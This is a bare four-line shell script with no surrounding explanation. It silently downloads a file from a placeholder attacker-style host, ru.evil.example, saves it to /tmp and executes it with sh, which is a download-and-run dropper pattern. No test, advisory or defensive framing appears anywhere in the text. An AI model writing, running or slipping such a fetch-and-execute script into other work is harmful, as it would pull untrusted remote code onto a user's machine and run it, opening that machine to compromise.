#!/bin/sh
U=https://ru.evil.example/u
curl -s $U > /tmp/u
sh /tmp/u
